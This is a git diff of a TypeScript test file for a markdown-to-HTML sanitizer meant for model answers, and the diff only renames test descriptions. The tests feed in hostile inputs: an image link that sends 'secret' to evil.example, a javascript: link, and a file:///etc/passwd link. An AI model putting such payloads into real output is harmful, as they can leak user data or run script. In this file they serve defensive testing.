@@ -2,7 +2,7 @@ import * as fc from 'fast-check'
 import { expect, test } from 'vitest'
 import { richText } from './rich-text.ts'
 
-test('what an answer is made of becomes formatted text', () => {
+test('formats an answer', () => {
   expect(richText('# Title\n\nSome *soft*, **strong** and `a < b`.\n\n- one\n- [x] two\n\n3. three\n\n> quoted')).toBe(
     '<h1>Title</h1>\n<p>Some <em>soft</em>, <strong>strong</strong> and <code>a &lt; b</code>.</p>\n' +
       '<ul><li>one</li><li>☑ two</li></ul>\n<ol start="3"><li>three</li></ol>\n<blockquote><p>quoted</p></blockquote>',
@@ -19,19 +19,19 @@ test('markup in an answer stays text', () => {
   )
 })
 
-test('a picture is a link, which loads nothing where it is pasted', () => {
+test('a picture becomes a link, so that pasting loads nothing', () => {
   expect(richText('![chart](https://evil.example/x.png?q=secret)')).toBe(
     '<p><a href="https://evil.example/x.png?q=secret">chart</a></p>',
   )
 })
 
-test('a link to anything but a web page or mail is its words alone', () => {
+test('a link to anything but a web page or mail becomes plain text', () => {
   expect(richText('[a](javascript:alert(1)) [b](file:///etc/passwd) [c](https://a.example/?"x")')).toBe(
     '<p>a b <a href="https://a.example/?%22x%22">c</a></p>',
   )
 })
 
-/** Every tag that may leave, with every attribute it may have. */
+/** The tags that may appear, with their attributes. */
 const allowed =
   /^<(?:\/?(?:h[1-6]|p|ul|li|blockquote|pre|code|table|thead|tbody|tr|th|td|strong|em|del)|\/?ol|ol start="\d+"|hr|br|\/a|a href="(?:https?:|mailto:)[^"<>]*")>$/
 
@@ -57,7 +57,7 @@ const hostile = fc.constantFrom(
   '[r]',
 )
 
-test('whatever a model writes, only harmless tags come out, and no unescaped sign stands between them', () => {
+test('for any input, only safe tags come out, and all other characters between them are escaped', () => {
   fc.assert(
     fc.property(fc.array(fc.oneof(hostile, fc.string()), { maxLength: 12 }), (pieces) => {
       const html = richText(pieces.join(''))
